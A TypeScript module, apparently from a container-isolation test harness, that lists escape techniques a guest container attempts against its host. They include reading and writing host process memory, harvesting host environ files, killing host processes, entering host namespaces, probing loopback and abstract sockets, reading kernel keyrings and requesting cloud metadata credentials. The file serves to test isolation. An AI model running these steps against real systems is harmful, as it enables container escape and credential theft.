/** C: what a container shares with the host's processes, or should not. */
import { O_RDWR } from '../../abi/fcntl.ts';
import { SOCK_STREAM, askTcp, askUnix, deface, drain, open, sendUdp, steal, unixAddress } from '../guest/moves.ts';
import { ON_HOST, exploitable, leaking } from '../twins.ts';
import type { Technique } from '../types.ts';

const SIGTERM = 15;
const SIGKILL = 9;
const NAMESPACES = ['mnt', 'pid', 'net', 'ipc', 'uts', 'user', 'cgroup', 'time'];
const LOOPBACK = [127, 0, 0, 1];
const LOOPBACK_6 = [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];

const PROCESSES: readonly Technique[] = [
  {
    name: 'read-process-memory', kind: 'C', title: 'The memory of a process of the host is read', source: 'process_vm_readv(2); CDK check-ptrace', needs: 'the host\'s process namespace', path: 'ptrace-host', isHarmless: true,
    program: (guest, { processId, secretAddress, secretLength }) => {
      const buffer = guest.buffer(secretLength);
      const [local, remote] = [guest.words(buffer, secretLength), guest.words(secretAddress, secretLength)];
      const got = guest.attempt(`process_vm_readv ${processId}`, 'process_vm_readv', processId, local, 1, remote, 1, 0);
      guest.when(got, '>', 0, () => guest.loot(buffer, got));
      const memory = open(guest, `/proc/${processId}/mem`);
      const fromFile = guest.attempt('read its memory', 'pread64', memory, buffer, secretLength, secretAddress);
      guest.when(fromFile, '>', 0, () => guest.loot(buffer, fromFile));
    },
    twin: ON_HOST,
  },
  {
    name: 'write-process-memory', kind: 'C', title: 'The memory of a process of the host is changed', source: 'process_vm_writev(2), proc_pid_mem(5)', needs: 'the host\'s process namespace', path: 'ptrace-host', isHarmless: true,
    program: (guest, { processId, wordAddress }) => {
      const [local, remote] = [guest.words(guest.text('changed'), 7), guest.words(wordAddress, 7)];
      guest.attempt(`process_vm_writev ${processId}`, 'process_vm_writev', processId, local, 1, remote, 1, 0);
      guest.attempt('write its memory', 'pwrite64', open(guest, `/proc/${processId}/mem`, O_RDWR), guest.text('changed'), 7, wordAddress);
    },
    twin: ON_HOST,
  },
  {
    name: 'process-files', kind: 'C', title: 'Environment, root and descriptors of a process of the host are read', source: 'CDK; namespaces(7)', needs: 'the host\'s process namespace', path: 'host-processes', isHarmless: true,
    program: (guest, { processId, secretFile }) => {
      steal(guest, `/proc/${processId}/environ`);
      for (const who of [String(processId), '1', '2', 'self']) steal(guest, `/proc/${who}/root${secretFile}`);
      steal(guest, `/proc/${processId}/cwd/../../secret`);
      steal(guest, `/proc/${processId}/task/${processId}/environ`);
    },
    twin: ON_HOST,
  },
  {
    name: 'signal-process', kind: 'C', title: 'A process of the host is ended by a signal', source: 'kill(2), pidfd_send_signal(2)', needs: 'the host\'s process namespace', isHarmless: true,
    program: (guest, { processId }) => {
      guest.attempt('kill', 'kill', processId, SIGTERM);
      guest.attempt('tgkill', 'tgkill', processId, processId, SIGTERM);
      guest.attempt('rt_sigqueueinfo', 'rt_sigqueueinfo', processId, SIGTERM, guest.words(SIGTERM, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0));
      const pidfd = guest.attempt('pidfd_open', 'pidfd_open', processId, 0);
      guest.attempt('pidfd_send_signal', 'pidfd_send_signal', pidfd, SIGKILL, 0, 0);
    },
    twin: ON_HOST,
  },
  {
    name: 'take-descriptor', kind: 'C', title: 'A descriptor is taken from a process of the host', source: 'pidfd_getfd(2)', needs: 'CAP_SYS_PTRACE and the host\'s process namespace', isHarmless: true,
    program: (guest, { processId }) => {
      const pidfd = guest.attempt('pidfd_open', 'pidfd_open', processId, 0);
      const output = guest.attempt('take its standard output', 'pidfd_getfd', pidfd, 1, 0);
      guest.when(output, '>=', 0, () => void guest.sys('write', output, guest.text('forged\n'), 7));
      guest.attempt('compare its descriptors', 'kcmp', processId, guest.sys('getpid'), 2, 0, 0);
    },
    twin: ON_HOST,
  },
  {
    name: 'enter-namespaces', kind: 'C', title: 'The namespaces of the host\'s processes are entered', source: 'nsenter(1); CDK', needs: 'CAP_SYS_ADMIN and the host\'s /proc', path: 'enter-namespaces', isHarmless: true,
    program: (guest, { processId, secretFile }) => {
      for (const who of [processId, 1]) {
        for (const name of NAMESPACES) guest.attempt(`enter ${name} of ${who}`, 'setns', guest.sys('openat', -100, guest.text(`/proc/${who}/ns/${name}`), 0, 0), 0);
        guest.attempt(`enter all of ${who}`, 'setns', guest.sys('pidfd_open', who, 0), 0x7e02_0000);
      }
      steal(guest, secretFile);
    },
    twin: ON_HOST,
  },
];

const SOCKETS: readonly Technique[] = [
  {
    name: 'abstract-socket', kind: 'C', title: 'A socket without a path is reached', source: 'CVE-2020-15257; CDK shim-pwn', needs: 'the host\'s network namespace', path: 'localhost-services', isHarmless: true,
    program: (guest, { abstractSocket }) => {
      askUnix(guest, abstractSocket);
      const fd = guest.sys('socket', 1, SOCK_STREAM, 0);
      guest.attempt('send to it without a connection', 'sendto', fd, guest.text('x'), 1, 0, ...unixAddress(guest, abstractSocket));
    },
    twin: ON_HOST,
  },
  {
    name: 'host-loopback', kind: 'C', title: 'Services at the host\'s loopback are reached', source: 'CVE-2020-8558; CDK service-probe', needs: 'the host\'s network namespace', path: 'localhost-services', isHarmless: true,
    program: (guest, { tcpPort }) => {
      askTcp(guest, '127.0.0.1', LOOPBACK, tcpPort);
      askTcp(guest, '0.0.0.0', [0, 0, 0, 0], tcpPort);
      askTcp(guest, '127.1.2.3', [127, 1, 2, 3], tcpPort);
      askTcp(guest, '::1', LOOPBACK_6, tcpPort);
      askTcp(guest, '::', [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0], tcpPort);
    },
    twin: ON_HOST,
  },
  {
    name: 'host-datagrams', kind: 'C', title: 'A datagram reaches the host\'s loopback', source: 'udp(7)', needs: 'the host\'s network namespace', path: 'localhost-services', isHarmless: true,
    program: (guest, { udpPort }) => {
      sendUdp(guest, '127.0.0.1', LOOPBACK, udpPort);
      sendUdp(guest, '0.0.0.0', [0, 0, 0, 0], udpPort);
      sendUdp(guest, '127.255.255.255', [127, 255, 255, 255], udpPort);
    },
    twin: ON_HOST,
  },
];

const SHARED: readonly Technique[] = [
  {
    name: 'shared-segment', kind: 'C', title: 'A System V segment of the host is attached', source: 'shmat(2); ipc_namespaces(7)', needs: 'the host\'s IPC namespace', path: 'host-ipc', isHarmless: true,
    program: (guest, { segmentKey }) => {
      const id = guest.attempt('shmget', 'shmget', segmentKey, 0, 0);
      guest.when(id, '>=', 0, () => {
        const address = guest.attempt('shmat', 'shmat', id, 0, 0o10000);
        guest.loot(address, 128);
      });
      steal(guest, '/proc/sysvipc/shm');
    },
    twin: ON_HOST,
  },
  {
    name: 'host-name', kind: 'C', title: 'The host\'s name is changed', source: 'sethostname(2); CIS 5.21', needs: 'the host\'s UTS namespace', path: 'rename-host', isHarmless: false,
    program: (guest) => {
      guest.attempt('sethostname', 'sethostname', guest.text('drilled'), 7);
      guest.attempt('setdomainname', 'setdomainname', guest.text('drilled'), 7);
      deface(guest, '/proc/sys/kernel/hostname', 'drilled\n');
    },
    twin: exploitable('sethostname', 'the host\'s name is shared'),
  },
  {
    name: 'host-clock', kind: 'C', title: 'The host\'s clock is set', source: 'settimeofday(2); CAP_SYS_TIME', needs: 'CAP_SYS_TIME', path: 'set-clock', isHarmless: false,
    program: (guest) => {
      guest.attempt('settimeofday', 'settimeofday', guest.words(1_000_000_000, 0), 0);
      guest.attempt('clock_settime', 'clock_settime', 0, guest.words(1_000_000_000, 0));
      guest.attempt('adjtimex', 'adjtimex', guest.words(0x4000, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 10_001, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0));
    },
    twin: exploitable('clock_settime', 'the host\'s clock is shared'),
  },
  {
    name: 'host-identity', kind: 'C', title: 'It is found out which machine this is', source: 'proc_sys_kernel(5), machine-id(5)', needs: 'files of the host\'s kernel', isHarmless: true,
    program: (guest) => {
      for (const path of ['/proc/sys/kernel/random/boot_id', '/etc/machine-id', '/var/lib/dbus/machine-id', '/sys/class/dmi/id/product_uuid', '/proc/1/cgroup', '/proc/self/mountinfo', '/proc/cmdline', '/proc/net/unix']) steal(guest, path);
    },
    twin: ON_HOST,
  },
  {
    name: 'kernel-keyring', kind: 'F', title: 'A key that a program of the host keeps in the kernel is read', source: 'botb keyctl; keyrings(7)', needs: 'keyctl without seccomp', path: 'keyrings', isHarmless: true,
    program: (guest, { keySerial }) => {
      const buffer = guest.buffer(512);
      guest.attempt('join the session', 'keyctl', 1, 0, 0, 0, 0);
      const got = guest.attempt(`read key ${keySerial}`, 'keyctl', 11, keySerial, buffer, 512, 0);
      guest.when(got, '>', 0, () => guest.loot(buffer, got));
      const found = guest.attempt('search for it', 'keyctl', 10, -3, guest.text('user'), guest.text('caisson-drill'), 0);
      guest.when(found, '>', 0, () => {
        const length = guest.sys('keyctl', 11, found, buffer, 512, 0);
        guest.when(length, '>', 0, () => guest.loot(buffer, length));
      });
      steal(guest, '/proc/keys');
    },
    twin: ON_HOST,
  },
  {
    name: 'metadata-service', kind: 'F', title: 'Credentials of the cloud\'s metadata service are asked for', source: 'CDK; botb', needs: 'a network that leads to 169.254.169.254', isHarmless: false, grants: () => ({ net: 'outbound' }),
    program: (guest) => {
      for (const address of [[169, 254, 169, 254], [100, 100, 100, 200], [169, 254, 170, 2], [192, 0, 0, 192]]) {
        askTcp(guest, address.join('.'), address, 80, 'GET /latest/meta-data/ HTTP/1.0\r\n\r\n');
      }
      askTcp(guest, '::ffff:169.254.169.254', [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 255, 255, 169, 254, 169, 254], 80);
      const fd = guest.sys('socket', 2, SOCK_STREAM, 0);
      drain(guest, fd);
    },
    twin: leaking('socket', 'a service that answers whoever asks'),
  },
];

export const NAMESPACE_TECHNIQUES: readonly Technique[] = [...PROCESSES, ...SOCKETS, ...SHARED];
